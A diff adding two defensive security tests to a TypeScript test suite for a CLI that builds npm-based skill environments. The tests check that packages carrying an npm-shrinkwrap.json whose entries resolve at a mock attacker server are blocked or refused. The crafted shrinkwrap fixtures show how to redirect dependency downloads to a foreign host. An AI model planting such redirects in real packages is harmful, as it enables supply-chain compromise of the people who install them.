@@ -21,7 +21,14 @@ import { describe } from 'vitest';
 import { SkillsError } from '../../src/errors.js';
 import { craftTarball, npmPack, paxRecord, type TarEntry } from '../helpers/build-packages.js';
 import { canaryToken } from './harness/host.js';
-import { blockedIf, breach, FORCED, securitySuite, type CaseContext } from './harness/security-case.js';
+import {
+  bestEffort,
+  blockedIf,
+  breach,
+  FORCED,
+  securitySuite,
+  type CaseContext,
+} from './harness/security-case.js';
 import { CLI, forcedPrefix } from './harness/server-under-test.js';
 
 const { securityCase, securityControl } = securitySuite();
@@ -677,6 +684,151 @@ describe('skill environments', () => {
         w.attacker.requests.length === 0,
         `exit ${r.code}; attacker listener: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`,
       );
+    },
+  );
+  securityCase(
+    {
+      id: 'env-file-shrinkwrap',
+      category: 'install',
+      title:
+        'a vendored package (folder or tarball) holding an npm-shrinkwrap.json whose entries resolve at another server: nothing fetched',
+      preflight: true,
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      ctx.untouched('the attacker’s listener saw no request', () => w.attacker.requests.length === 0);
+      const manifest = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        main: 'index.js',
+        dependencies: { inner: '1.0.0' },
+      });
+      const shrinkwrap = JSON.stringify({
+        name: 'tiny',
+        version: '1.0.0',
+        lockfileVersion: 3,
+        requires: true,
+        packages: {
+          '': { name: 'tiny', version: '1.0.0', dependencies: { inner: '1.0.0' } },
+          'node_modules/inner': {
+            version: '1.0.0',
+            resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
+            integrity: w.integrity,
+          },
+        },
+      });
+      const index = "exports.value = 'vendored';\n";
+      nodeSkill(w.skills, 'sw-folder', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny' },
+        }),
+        'vendor/tiny/package.json': manifest,
+        'vendor/tiny/npm-shrinkwrap.json': shrinkwrap,
+        'vendor/tiny/index.js': index,
+      });
+      const dir = nodeSkill(w.skills, 'sw-tarball', {
+        'package.json': JSON.stringify({
+          name: 's',
+          private: true,
+          dependencies: { tiny: 'file:vendor/tiny.tgz' },
+        }),
+      });
+      mkdirSync(join(dir, 'vendor'));
+      writeFileSync(
+        join(dir, 'vendor', 'tiny.tgz'),
+        craftTarball([
+          { name: 'package/package.json', data: manifest },
+          { name: 'package/npm-shrinkwrap.json', data: shrinkwrap },
+          { name: 'package/index.js', data: index },
+        ]),
+      );
+      const notes: string[] = [];
+      for (const name of ['sw-folder', 'sw-tarball']) {
+        const before = w.attacker.requests.length;
+        const r = await depsInstall(w, name);
+        deniedWhenForced(r);
+        notes.push(
+          `${name}: exit ${r.code}, attacker ${w.attacker.requests.length - before} requests, ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 160)}`,
+        );
+      }
+      return blockedIf(w.attacker.requests.length === 0, notes.join(' || '));
+    },
+  );
+  securityCase(
+    {
+      id: 'env-registry-shrinkwrap',
+      category: 'install',
+      title:
+        'a package of the operator’s registry shipping an npm-shrinkwrap.json whose entries resolve at another server: the environment is refused, nothing of it kept',
+    },
+    async (ctx) => {
+      const w = await world(ctx);
+      const src = join(w.root, 'wrapped-src');
+      mkdirSync(src);
+      writeFileSync(
+        join(src, 'package.json'),
+        JSON.stringify({ name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } }),
+      );
+      writeFileSync(
+        join(src, 'npm-shrinkwrap.json'),
+        JSON.stringify({
+          name: 'wrapped',
+          version: '1.0.0',
+          lockfileVersion: 3,
+          requires: true,
+          packages: {
+            '': { name: 'wrapped', version: '1.0.0', dependencies: { tiny: '1.0.0' } },
+            'node_modules/tiny': {
+              version: '1.0.0',
+              resolved: `${w.attacker.url}attacker/tiny-1.0.0.tgz`,
+              integrity: w.integrity,
+            },
+          },
+        }),
+      );
+      writeFileSync(join(src, 'index.js'), "module.exports = require('tiny');\n");
+      const wrapped = readFileSync(npmPack(src, join(w.root, 'wrapped-packed')));
+      const files: Record<string, Buffer> = {};
+      const registry = await httpListener(files);
+      ctx.defer(() => registry.close());
+      const version = (name: string, tgz: Buffer, more: Record<string, unknown>) =>
+        Buffer.from(
+          JSON.stringify({
+            name,
+            'dist-tags': { latest: '1.0.0' },
+            versions: {
+              '1.0.0': {
+                name,
+                version: '1.0.0',
+                dist: { tarball: `${registry.url}${name}/-/${name}-1.0.0.tgz`, integrity: integrityOf(tgz) },
+                ...more,
+              },
+            },
+          }),
+        );
+      Object.assign(files, {
+        '/wrapped': version('wrapped', wrapped, { dependencies: { tiny: '1.0.0' }, _hasShrinkwrap: true }),
+        '/wrapped/-/wrapped-1.0.0.tgz': wrapped,
+        '/tiny': version('tiny', w.tarball, {}),
+        '/tiny/-/tiny-1.0.0.tgz': w.tarball,
+      });
+      const rw = { ...w, registry, env: { ...w.env, npm_config_registry: registry.url } };
+      nodeSkill(w.skills, 'wrapped-user', {
+        'package.json': JSON.stringify({ name: 's', private: true, dependencies: { wrapped: '1.0.0' } }),
+      });
+      const r = await depsInstall(rw, 'wrapped-user');
+      deniedWhenForced(r);
+      const built = readdirSync(w.envsDir).filter((n) => /^[0-9a-f]{64}$/.test(n));
+      const note = `exit ${r.code}; environments built: ${built.length}; attacker: ${w.attacker.requests.length} requests; ${r.out.trim().split('\n').slice(-1)[0]?.slice(0, 200)}`;
+      const refused =
+        r.code !== 0 && built.length === 0 && /node_modules\/wrapped\/node_modules\/tiny.*from/.test(r.out);
+      if (!refused) return breach(note);
+      // npm fetches what the shrinkwrap names before the server can see it; the environment is refused afterwards.
+      return w.attacker.requests.length === 0
+        ? blockedIf(true, note)
+        : bestEffort(`nothing from the other server is kept, but npm fetched from it: ${note}`);
     },
   );
 });
